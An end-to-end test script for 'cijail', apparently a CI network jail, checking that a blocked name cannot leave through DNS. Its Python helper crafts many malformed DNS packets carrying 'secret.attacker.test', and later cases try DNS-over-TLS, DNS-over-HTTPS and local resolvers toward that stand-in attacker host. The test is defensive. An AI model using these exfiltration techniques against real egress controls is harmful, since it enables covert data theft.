#!/usr/bin/env bash
# Names as a channel. More: e2e/03-dns.sh (types, odd packets, rebinding), e2e/12-dns-servers.sh.
. "$(dirname "$0")/../lib/lib.sh"
in_test_internet "$@"

# ask.py POLICY-NAME: one question in each of many forms, at the gateway; prints "FORM RCODE ANSWERS".
cat >ask.py <<'END'
import os, socket, struct, time
allowed, denied = b"\x08registry\x07example\0", b"\x06secret\x08attacker\x04test\0"
IN = b"\0\1\0\1"
def head(qd=1, an=0, ns=0, ar=0, flags=0x0100, ident=4242): return struct.pack(">6H", ident, flags, qd, an, ns, ar)
def record(name, kind, data): return name + struct.pack(">HHIH", kind, 1, 60, len(data)) + data
def edns(*options):
    data = b"".join(struct.pack(">HH", code, len(text)) + text for code, text in options)
    return b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(data)) + data
forms = {f"type {t}": head() + denied + struct.pack(">HH", t, 1) for t in list(range(0, 66)) + [99, 108, 109, 128, 249, 250, 251, 252, 253, 254, 255, 256, 257, 32768, 65280, 65535]}
forms.update({f"class {c}": head() + denied + struct.pack(">HH", 1, c) for c in (0, 2, 3, 4, 254, 255, 65535)})
forms.update({f"opcode {o}": head(flags=o << 11 | 0x100) + denied + IN for o in range(16)})
forms.update({f"allowed, opcode {o}": head(flags=o << 11 | 0x100, ar=1) + allowed + IN + record(denied, 1, b"\1\2\3\4") for o in range(1, 16)})
forms.update({
    "two questions": head(2) + allowed + IN + denied + IN, "two questions, other order": head(2) + denied + IN + allowed + IN,
    "question in the answers": head(1, 1) + allowed + IN + record(denied, 1, b"\1\2\3\4"),
    "in the authority": head(1, 0, 1) + allowed + IN + record(denied, 6, denied + denied + bytes(20)),
    "in the additional": head(1, 0, 0, 1) + allowed + IN + record(denied, 16, b"\6stolen"),
    "trailing": head() + allowed + IN + denied + IN, "trailing secret": head() + denied + IN + os.urandom(300),
    "pointer": head() + b"\x06secret\xc0\x14" + IN + b"\x08attacker\x04test\0",
    "pointer into the head": head(ident=0x0474) + b"\x06secret\xc0\x00" + IN, "pointer to itself": head() + b"\xc0\x0c" + IN,
    "pointers in a ring": head() + b"\xc0\x0e\xc0\x0c" + IN, "deep pointers": head() + b"".join(b"\1a" + struct.pack(">H", 0xc000 | 12 + 4 * i) for i in range(1, 60)) + denied + IN,
    "extended label": head() + b"\x41\x00" + denied + IN, "bit label": head() + b"\x41\x08\xff\0" + IN,
    "no end": head() + denied[:-1], "no type": head() + denied, "long": head() + (b"\x3f" + b"s" * 63) * 3 + b"\x3d" + b"s" * 61 + b"\0" + IN,
    "too long": head() + (b"\x3f" + b"s" * 63) * 4 + b"\0" + IN, "case": head() + b"\x06sEcReT\x08AtTaCkEr\x04TeSt\0" + IN,
    "binary": head() + b"\x08\xde\xad\xbe\xef\0\1\2\3\x08attacker\x04test\0" + IN, "dot in a label": head() + b"\x15secret.attacker.test\0\0" + IN,
    "dot before an allowed one": head() + b"\x07secret.\x08registry\x07example\0" + IN, "sub of an allowed one": head() + b"\x06secret\x08registry\x07example\0" + IN,
    "allowed as a label": head() + b"\x10registry.example\x08attacker\x04test\0" + IN, "root": head() + b"\0" + IN, "tld": head() + b"\4test\0" + b"\0\2\0\1",
    "subnet": head(ar=1) + denied + IN + edns((8, b"\0\1\x20\0\1\2\3\4")), "cookie": head(ar=1) + denied + IN + edns((10, b"secret!!"))})
sent = []
for name, packet in forms.items():
    for family, server in (socket.AF_INET, "192.0.0.1"), (socket.AF_INET6, "fd63:696a:6169:6c::1"):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.connect((server, 53))
        s.send(packet)
        sent.append((name, s))
end = time.monotonic() + 1
for name, s in sent:
    s.settimeout(max(end - time.monotonic(), 0.001))
    try:
        answer = s.recv(65535)
        print(f"{name}: rcode {answer[3] & 15}, {struct.unpack('>H', answer[6:8])[0]} answers")
    except socket.timeout: print(f"{name}: silence")
    except OSError as e: print(f"{name}: {e}")
t = socket.create_connection(("192.0.0.1", 53), 5)  # the same by TCP, in one stream
t.settimeout(0.5)
for packet in forms.values():
    try: t.sendall(struct.pack(">H", len(packet)) + packet)
    except OSError: break
try:
    while t.recv(65536): pass
except OSError: pass
print("end")
END

t_case 'a name that is not allowed, in every form: no packet has it, nor any question that was not asked'
wire_start
run cijail -q -e registry.example -- python3 ask.py
wire_stop
t_status 0
t_match "$out" '^end$'
t_match "$out" '^type 16: rcode 5, 0 answers$'
t_match "$out" '^case: rcode 5, 0 answers$'
t_no_match "$(grep -vE '^(in the|trailing:|question in)' <<<"$out")" ' [1-9][0-9]* answers'
t_no_match "$WIRE" '([Ss][Ee][Cc][Rr][Ee][Tt]|[Aa][Tt][Tt][Aa][Cc]|sss|test\.)'
t_no_match "$(grep -v ' A? registry\.example\. ' <<<"$WIRE" | grep '? ')" '> 192\.0\.2\.53\.53'

t_case 'the twin: the same name does leave where it is allowed'
wire_start
run cijail -e '*.attacker.test' -- dig +short +tries=1 secret.attacker.test TXT
wire_stop
t_eq "$out" '"stolen"'
t_match "$WIRE" 'TXT\? secret\.attacker\.test'

t_case 'the question that goes up is the same, however the client asks: case, id, flags, EDNS'
cat >forms.sh <<'END'
dig +tries=1 +qid=4242 +noedns registry.example
dig +tries=1 +qid=4242 rEgIsTrY.ExAmPlE
dig +tries=1 +qid=4242 +cd +adflag +dnssec +zflag +norecurse REGISTRY.example
dig +tries=1 +qid=4242 +ednsopt=65001:736563726574 +nsid +subnet=1.2.3.0/24 +cookie=0011223344556677 +padding=400 +ednsflags=0x7fff registry.examplE
END
for ((i = 1; i <= 4; i++)); do
    wire_start
    run cijail -q -e registry.example -- sh -c "$(sed -n ${i}p forms.sh)"
    wire_stop
    t_match "$out" '198\.51\.100\.10$'
    question=$(grep -E '> 192\.0\.2\.53\.53: ' <<<"$WIRE")
    t_count 1 "$question" ' A\? registry\.example\. '
    t_no_match "$question" ': 4242[+% ]'
    sed -E 's/.*53: [0-9]+//' <<<"$question" >>questions
done
t_eq "$(sort -u questions | wc -l)" 1

t_case 'a CNAME to a name that is not allowed is not followed by questions'
wire_start
run cijail -e chain1.example -- sh -c 'dig +short chain1.example A; dig +short chain1.example TXT; dig +short dangling.example'
wire_stop
t_no_match "$WIRE" '\? (chain2|chain3|registry|dangling|missing)\.example'

t_case 'DNS over TLS: at the gateway, at servers, whatever the policy says of port 53'
cat >dot.py <<'END'
import errno, socket, ssl
for server in "192.0.0.1", "192.0.2.53", "203.0.113.5", "198.51.100.66", "2001:db8:53::53":
    for port in 853, 8853:
        try:
            s = socket.create_connection((server, port), 5)
            print("connected", server, port)
        except OSError as e: print(errno.errorcode.get(e.errno, e))
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    try: s.connect((server, 853)); s.send(b"quic"); s.settimeout(1); s.recv(1); print("connected")
    except OSError as e: print(errno.errorcode.get(e.errno, e))
END
wire_start
run cijail -q -e '203.0.113.5:53 https://registry.example/pkg/' -- python3 dot.py
wire_stop
t_no_match "$out" connected
t_count 15 "$out" '^(ENETUNREACH|EACCES)$'
t_eq "$WIRE" ''

t_case 'DNS over HTTPS: by another path of an allowed host, by other hosts, at the proxy itself'
question=AAABAAABAAAAAAAABnNlY3JldAhhdHRhY2tlcgR0ZXN0AAABAAE
for url in "https://registry.example/dns-query?dns=$question" "https://registry.example/pkg/../dns-query?dns=$question" \
    "https://203.0.113.5/dns-query?dns=$question" "https://attacker.test/dns-query?dns=$question" \
    "http://192.0.0.1:3128/dns-query?dns=$question" "http://192.0.0.1:53/dns-query"; do
    served=$(wc -l <"$T_NET/nginx/access.log")
    wire_start
    run cijail -e https://registry.example/pkg/ -- curl -s -m 5 --path-as-is -o /dev/null -w '%{http_code} %{http_connect}' -H 'Accept: application/dns-message' "$url"
    wire_stop
    t_match "$out" '^(000|4[0-9][0-9]) ' # none but cijail's own
    # A connection to the host of the policy may have been begun, but nothing was asked.
    t_eq "$(grep -vE '(registry\.example|198\.51\.100\.10|2001:db8:10::10)' <<<"$WIRE")" ''
    t_eq "$(wc -l <"$T_NET/nginx/access.log")" "$served"
done
run cijail -e https://registry.example/ -- curl -s -o /dev/null -w '%{http_code}' "https://registry.example/echo?dns=$question"
t_eq "$out" 200 # the twin: a host that is allowed as a whole is a channel

t_case 'services of the host that resolve: nscd, resolved, mDNS, NSS modules have no way either'
wire_start
run cijail -q -- sh -c 'getent hosts secret.attacker.test; getent ahosts secret.attacker.test; resolvectl query secret.attacker.test;
    python3 -c "import socket; socket.gethostbyname(\"secret.attacker.test\")"; python3 '"$T_LIB"'/connect.py udp 224.0.0.251 5353;
    python3 '"$T_LIB"'/connect.py udp 127.0.0.53 53; python3 '"$T_LIB"'/connect.py udp ff02::1:3 5355'
wire_stop
t_no_match "$out" '^answer'
t_eq "$WIRE" ''

t_done
